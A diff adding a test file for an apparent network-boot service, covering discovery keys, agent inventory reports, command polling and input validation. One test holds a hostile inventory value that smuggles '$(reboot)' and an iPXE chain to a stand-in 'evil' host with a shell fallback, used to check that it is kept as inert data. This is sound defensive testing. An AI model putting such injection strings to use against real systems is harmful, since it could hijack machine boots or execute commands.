@@ -1,0 +1,132 @@
+import assert from "node:assert/strict";
+import { test } from "node:test";
+import { testApp } from "./testing/app.js";
+
+const MAC = "52:54:00:aa:00:01";
+
+async function withDiscoveryKey() {
+  const t = await testApp({
+    discovery: true,
+    discoveryKernel: "http://img/vmlinuz",
+    discoveryInitrd: "http://img/initrd.gz",
+  });
+  const script = await t.http.inject(`/boot/machine?mac=${MAC}&platform=efi`);
+  assert.equal(script.statusCode, 200);
+  assert.match(
+    script.body,
+    /^kernel http:\/\/img\/vmlinuz initrd=initrd\.gz console=tty0 .* enforcer\.url=http:\/\/enf\.test:8080 enforcer\.key=ens_\S+$/m,
+  );
+  const key = /enforcer\.key=(\S+)/.exec(script.body)![1]!;
+  const agent = (opts: { method?: "GET" | "POST"; url: string; payload?: unknown }) =>
+    t.http.inject({
+      method: opts.method ?? "GET",
+      url: opts.url,
+      payload: opts.payload as object,
+      headers: { authorization: `Bearer ${key}` },
+    });
+  return { ...t, key, agent };
+}
+
+test("a discovery key reports for its own machine only, polls and acknowledges its commands", async () => {
+  const t = await withDiscoveryKey();
+  const inventory = { uuid: "11111111-2222-3333-4444-555555555555", serial: "SN-9", cpu: { count: 2 } };
+  const ok = await t.agent({
+    method: "POST",
+    url: "/api/v1/agent/report",
+    payload: { macs: [MAC, "52:54:00:aa:00:02"], inventory },
+  });
+  assert.deepEqual([ok.statusCode, ok.json().machine], [200, MAC]);
+  const m = t.core.machines.get(MAC);
+  assert.deepEqual(
+    [m.uuid, m.serial, m.macs],
+    ["11111111-2222-3333-4444-555555555555", "SN-9", [MAC, "52:54:00:aa:00:02"]],
+  );
+  const other = await t.agent({
+    method: "POST",
+    url: "/api/v1/agent/report",
+    payload: { macs: ["52:54:00:ff:ff:ff"], inventory },
+  });
+  assert.deepEqual([other.statusCode, other.json().code], [403, "ENF_ERR_AUTH_FORBIDDEN"]);
+  // The key is not an API token: it reaches nothing else.
+  assert.equal((await t.agent({ url: "/api/v1/machines" })).statusCode, 401);
+
+  const cmd = await t.core.commands.enqueue(MAC, "reboot");
+  const polled = await t.agent({ url: "/api/v1/agent/commands?wait=0&format=lines" });
+  assert.equal(polled.body, `${cmd.id} reboot\n`);
+  assert.equal(t.core.commands.get(cmd.id).state, "sent");
+  const ack = await t.agent({
+    method: "POST",
+    url: `/api/v1/agent/commands/${cmd.id}`,
+    payload: { ok: true, detail: "rebooting" },
+  });
+  assert.equal(ack.json().state, "acknowledged");
+  const again = await t.agent({
+    method: "POST",
+    url: `/api/v1/agent/commands/${cmd.id}`,
+    payload: { ok: true },
+  });
+  assert.equal(again.statusCode, 409);
+});
+
+test("a long poll answers as soon as a command is queued", async () => {
+  const t = await withDiscoveryKey();
+  await t.agent({ method: "POST", url: "/api/v1/agent/report", payload: { macs: [MAC], inventory: {} } });
+  const started = Date.now();
+  const poll = t.agent({ url: "/api/v1/agent/commands?wait=20" });
+  setTimeout(() => void t.core.commands.enqueue(MAC, "reboot"), 200);
+  const r = await poll;
+  assert.equal(r.json().items.length, 1);
+  assert.ok(Date.now() - started < 5000, "the poll waited for its full timeout");
+});
+
+test("hostile inventories: too big, too deep, injection strings; bad keys", async () => {
+  const t = await withDiscoveryKey();
+  let deep: unknown = "x";
+  for (let i = 0; i < 20; i++) deep = { d: deep };
+  const huge = await t.agent({
+    method: "POST",
+    url: "/api/v1/agent/report",
+    payload: { macs: [MAC], inventory: { blob: "x".repeat(100_000) } },
+  });
+  assert.equal(huge.statusCode, 413);
+  const nested = await t.agent({
+    method: "POST",
+    url: "/api/v1/agent/report",
+    payload: { macs: [MAC], inventory: { deep } },
+  });
+  assert.deepEqual([nested.statusCode, nested.json().code], [400, "ENF_ERR_FACT_INVALID"]);
+  const long = await t.agent({
+    method: "POST",
+    url: "/api/v1/agent/report",
+    payload: { macs: [MAC], inventory: { s: "y".repeat(5000) } },
+  });
+  assert.deepEqual([long.statusCode, long.json().code], [400, "ENF_ERR_FACT_INVALID"]);
+  const evil = {
+    vendor: "$(reboot)\n#!ipxe\nchain http://evil/ || shell",
+    serial: "x\u0000y",
+    uuid: "not-a-uuid",
+  };
+  const stored = await t.agent({
+    method: "POST",
+    url: "/api/v1/agent/report",
+    payload: { macs: [MAC], inventory: evil },
+  });
+  assert.equal(stored.statusCode, 200);
+  const m = t.core.machines.get(MAC);
+  assert.equal(m.facts.vendor, evil.vendor, "kept as data");
+  assert.equal(m.serial, undefined, "an invalid serial is not promoted to the identity");
+  assert.equal(m.uuid, undefined);
+  const bad = await t.http.inject({
+    url: "/api/v1/agent/commands?wait=0",
+    headers: { authorization: "Bearer ens_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" },
+  });
+  assert.deepEqual([bad.statusCode, bad.json().code], [401, "ENF_ERR_AUTH_INVALID"]);
+  const viewer = await t.as("viewer", "/api/v1/agent/commands?wait=0&mac=52:54:00:aa:00:01");
+  assert.equal(viewer.statusCode, 403);
+  const agent = await t.as("agent", "/api/v1/agent/commands?wait=0");
+  assert.deepEqual(
+    [agent.statusCode, agent.json().code],
+    [400, "ENF_ERR_MAC_INVALID"],
+    "an agent token must name the machine",
+  );
+});
